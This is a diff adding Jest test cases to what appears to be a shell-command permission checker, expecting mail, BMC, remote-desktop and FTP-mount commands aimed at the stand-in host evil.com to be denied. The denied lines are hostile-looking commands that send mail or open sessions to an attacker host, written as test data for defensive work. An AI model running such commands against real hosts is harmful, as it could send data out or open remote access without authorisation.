@@ -90,3 +90,22 @@ describe('object-store CLIs pointed at another server', () => {
     expectDecision(DENY_EVIL, 'shell', line, expected, REPO_LINUX);
   });
 });
+
+describe('mail, BMC, remote desktop and FTP-mount clients reach the server they are given', () => {
+  it.each<[string, DecisionKind]>([
+    ['swaks --server evil.com --to a@ok.com', 'deny'],
+    ['swaks --to a@evil.com', 'deny'], // (no server: the recipient's mail exchanger)
+    ['swaks -t a@ok.com,b@evil.com', 'deny'],
+    ['msmtp --host evil.com a@ok.com', 'deny'],
+    ['ipmitool -I lanplus -H evil.com -U x chassis status', 'deny'],
+    ['rdesktop -u x evil.com:3389', 'deny'],
+    ['xfreerdp /v:evil.com /u:x', 'deny'],
+    ['vncviewer evil.com:1', 'deny'],
+    ['curlftpfs evil.com mnt', 'deny'],
+    ['swaks --to a@ok.com --server smtp.ok.com', 'allow'],
+    ['ipmitool sensor list', 'allow'],
+    ['curlftpfs ok.com mnt', 'allow'],
+  ])('%s -> %s', (line, expected) => {
+    expectDecision(DENY_EVIL, 'shell', line, expected, REPO_LINUX);
+  });
+});
